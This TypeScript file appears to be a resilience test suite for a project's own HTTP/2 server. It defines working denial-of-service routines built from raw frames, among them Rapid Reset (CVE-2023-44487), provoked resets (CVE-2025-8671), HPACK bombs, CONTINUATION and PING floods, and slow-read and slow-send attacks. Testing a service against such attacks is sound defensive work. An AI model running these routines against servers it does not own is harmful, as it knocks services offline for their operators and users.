import type { Socket } from "node:net";
import {
  END_HEADERS,
  END_STREAM,
  FRAME,
  frame,
  headerBlock,
  PREFACE,
  requestBlock,
  settings,
  uint32,
} from "../../packages/http-server/test/http2/raw-http2.js";
import type { Attack } from "./attack.js";
import { crowd, drip, pour, untilGone } from "./attack.js";

/** Creates an attack whose clients start a valid HTTP/2 connection and read everything. */
export function over(name: string, connections: number, act: Act): Attack {
  return {
    name,
    connections,
    run: (tools, count) =>
      crowd(count, tools, (socket) => {
        socket.resume().write(PREFACE);
        return act(socket, tools);
      }),
  };
}

type Act = (socket: Socket, tools: Parameters<Attack["run"]>[0]) => Promise<unknown>;

const CANCEL = uint32(8);
const GEO_IP = "/v1/geoIp?ip_address=8.8.8.8";

/** Concatenates frames of `count` streams with increasing odd identifiers. */
export function streams(count: number, bytesOf: (id: number) => readonly Uint8Array[]): Buffer {
  return Buffer.concat(Array.from({ length: count }, (_, index) => bytesOf(2 * index + 1)).flat());
}

/** An attack that repeats a frame on each connection, after others that prepare it. */
function flood(name: string, piece: Uint8Array, ...first: readonly Uint8Array[]): Attack {
  return over(`a flood of ${name}`, 10, (socket, tools) => {
    socket.write(Buffer.concat(first));
    return pour(
      socket,
      tools,
      streams(500, () => [piece]),
    );
  });
}

const post = (id: number, headers: Readonly<Record<string, string>> = {}) =>
  frame(
    FRAME.HEADERS,
    END_HEADERS,
    id,
    Buffer.concat([requestBlock("POST", "/v1/sanitizeEmail"), headerBlock(headers)]),
  );

const update = (id: number, increment: number) => frame(FRAME.WINDOW_UPDATE, 0, id, uint32(increment));

/** Opens the windows of the connection and of all streams. */
export const GROW: Buffer = Buffer.concat([
  frame(FRAME.SETTINGS, 0, 0, settings([4, 2 ** 31 - 1])),
  update(0, 2 ** 30),
]);

export const get = (id: number, path = GEO_IP): Buffer =>
  frame(FRAME.HEADERS, END_HEADERS | END_STREAM, id, requestBlock("GET", path));

/** Attacks over HTTP/2. */
export const HTTP2_ATTACKS: readonly Attack[] = [
  over("idle HTTP/2 connections", 10_000, untilGone),
  over("slow bodies over HTTP/2", 200, (socket, tools) => {
    socket.write(streams(50, (id) => [post(id)]));
    const bytes = streams(50, (id) => [frame(FRAME.DATA, 0, id, Buffer.from(" "))]);
    return drip(socket, tools, () => bytes);
  }),
  over("rapid resets", 20, async (socket, tools) => {
    // CVE-2023-44487: immediate resets allow more streams than the limit of concurrent streams.
    socket.write(streams(2000, (id) => [get(id), frame(FRAME.RST_STREAM, 0, id, CANCEL)]));
    await untilGone(socket, tools);
  }),
  over("provoked resets", 20, async (socket, tools) => {
    // CVE-2025-8671: each stream ends with a client error after the service has started to process it.
    const tooMuch = (id: number) => frame(FRAME.DATA, END_STREAM, id, Buffer.from("too much"));
    socket.write(streams(2000, (id) => [post(id, { "content-length": "1" }), tooMuch(id)]));
    await untilGone(socket, tools);
  }),
  over("resets provoked by windows", 20, async (socket, tools) => {
    // CVE-2025-8671: an increment of 0 (RFC 9113, section 6.9), and one that exceeds the maximum.
    socket.write(
      streams(2000, (id) => [get(id, "/v1/countries"), update(id, id % 4 === 1 ? 0 : 2 ** 31 - 1)]),
    );
    await untilGone(socket, tools);
  }),
  over("streams beyond the limit", 20, async (socket, tools) => {
    socket.write(streams(5000, (id) => [post(id)]));
    await untilGone(socket, tools);
  }),
  over("HPACK bombs", 20, async (socket, tools) => {
    // A field of 4,000 bytes in the table (RFC 7541, section 6.2.1), and then its index 16,000 times in each request.
    const big = headerBlock({ a: "x".repeat(3900) });
    big[0] = 0x40;
    const bomb = Buffer.concat([requestBlock(), Buffer.alloc(16_000, 0x80 | 62)]);
    socket.write(frame(FRAME.HEADERS, END_HEADERS | END_STREAM, 1, Buffer.concat([requestBlock(), big])));
    socket.write(streams(200, (id) => [frame(FRAME.HEADERS, END_HEADERS | END_STREAM, id + 2, bomb)]));
    await untilGone(socket, tools);
  }),
  over("huge headers over HTTP/2", 50, async (socket, tools) => {
    const huge = Buffer.concat([requestBlock(), ...Array(120).fill(headerBlock({ x: "y".repeat(126) }))]);
    socket.write(streams(200, (id) => [frame(FRAME.HEADERS, END_HEADERS | END_STREAM, id, huge)]));
    await untilGone(socket, tools);
  }),
  over("a flood of CONTINUATION frames", 50, (socket, tools) => {
    socket.write(frame(FRAME.HEADERS, END_STREAM, 1, requestBlock()));
    return pour(socket, tools, frame(FRAME.CONTINUATION, 0, 1, headerBlock({ x: "y".repeat(100) })));
  }),
  over("a flood of PINGs", 10, (socket, tools) =>
    pour(
      socket,
      tools,
      streams(500, () => [frame(FRAME.PING, 0, 0, Buffer.alloc(8))]),
    ),
  ),
  over("a flood of PINGs without reading the responses", 50, (socket, tools) =>
    pour(
      socket.pause(),
      tools,
      streams(500, () => [frame(FRAME.PING, 0, 0, Buffer.alloc(8))]),
    ),
  ),
  over("a flood of SETTINGS", 10, (socket, tools) =>
    pour(
      socket,
      tools,
      streams(500, () => [frame(FRAME.SETTINGS, 0, 0, Buffer.from("000400010000", "hex"))]),
    ),
  ),
  over("HTTP/2 responses without window updates", 200, async (socket, tools) => {
    // Without window updates, all streams together receive 65,535 bytes.
    socket.write(streams(200, (id) => [get(id, "/v1/countries")]));
    await untilGone(socket, tools);
  }),
  over("HTTP/2 responses that are not read", 200, async (socket, tools) => {
    const window = frame(8, 0, 0, Buffer.from("3fffffff", "hex"));
    socket.pause().write(Buffer.concat([window, streams(200, (id) => [get(id, "/v1/countries")])]));
    await untilGone(socket, tools);
  }),
  over("HTTP/2 responses that are read byte by byte", 50, (socket, tools) => {
    socket.write(frame(FRAME.SETTINGS, 0, 0, settings([4, 0])));
    socket.write(streams(200, (id) => [get(id, "/v1/countries")]));
    const trickle = streams(200, (id) => [update(id, 1)]);
    return drip(socket, tools, () => trickle);
  }),
  over("HTTP/2 requests that are sent byte by byte", 200, async (socket, tools) => {
    const bytes = [...get(1)];
    return drip(socket, tools, () => Buffer.from(bytes.splice(0, 1)));
  }),
  over("bodies in frames of one byte", 50, async (socket, tools) => {
    const parts = streams(500, () => [frame(FRAME.DATA, 0, 1, Buffer.from("x"))]);
    socket.write(post(1));
    return pour(socket, tools, parts);
  }),
  over("bodies that nobody reads", 100, async (socket, tools) => {
    // No method has this path: the service responds without reading, or the window of each stream fills.
    const window = Array.from({ length: 3 }, (_, index) => Buffer.alloc(16_384, index));
    socket.write(streams(250, (id) => [post(id), ...window.map((part) => frame(FRAME.DATA, 0, id, part))]));
    await untilGone(socket, tools);
  }),
  over("small bodies with much around them", 100, async (socket, tools) => {
    // A request of a few bytes that waits must not retain the 64 KiB that it came with.
    const padding = frame(0x77, 0, 0, Buffer.alloc(16_000));
    socket.write(
      streams(100, (id) => [
        post(id),
        frame(FRAME.DATA, 0, id, Buffer.from("x")),
        padding,
        padding,
        padding,
        padding,
      ]),
    );
    await untilGone(socket, tools);
  }),
  over("many requests at once", 20, async (socket, tools) => {
    socket.write(GROW);
    for (let id = 1; !socket.closed && performance.now() < tools.until; id += 2000) {
      const first = id;
      const requests = streams(1000, (each) => [get(first + each - 1)]);
      if (!socket.write(requests)) {
        await Promise.race([
          new Promise((resolve) => socket.once("drain", resolve)),
          untilGone(socket, tools),
        ]);
      }
    }
  }),
  flood("empty DATA", frame(FRAME.DATA, 0, 1), post(1)),
  flood("PRIORITY", frame(FRAME.PRIORITY, 0, 3, Buffer.alloc(5))),
  flood("unknown frames", frame(0x77, 0, 0, Buffer.alloc(8))),
  flood("RST_STREAM on a closed stream", frame(FRAME.RST_STREAM, 0, 1, CANCEL), get(1)),
  flood("WINDOW_UPDATE of one byte", update(0, 1)),
  flood("WINDOW_UPDATE on a closed stream", update(1, 2000), get(1)),
  flood(
    "WINDOW_UPDATE while 250 streams wait",
    update(0, 1024),
    frame(FRAME.SETTINGS, 0, 0, settings([4, 0])),
    streams(250, (id) => [get(id, "/v1/countries")]),
  ),
  flood(
    "DATA on a stream that the client reset",
    frame(FRAME.DATA, 0, 1, Buffer.alloc(1000)),
    post(1),
    frame(FRAME.RST_STREAM, 0, 1, CANCEL),
  ),
  flood("acknowledgements of PING", frame(FRAME.PING, 1, 0, Buffer.alloc(8))),
  flood("many settings", frame(FRAME.SETTINGS, 0, 0, settings(...Array(64).fill([4, 65_535])))),
  flood("bytes that are not HTTP/2", Buffer.alloc(1000, 0xff)),
];
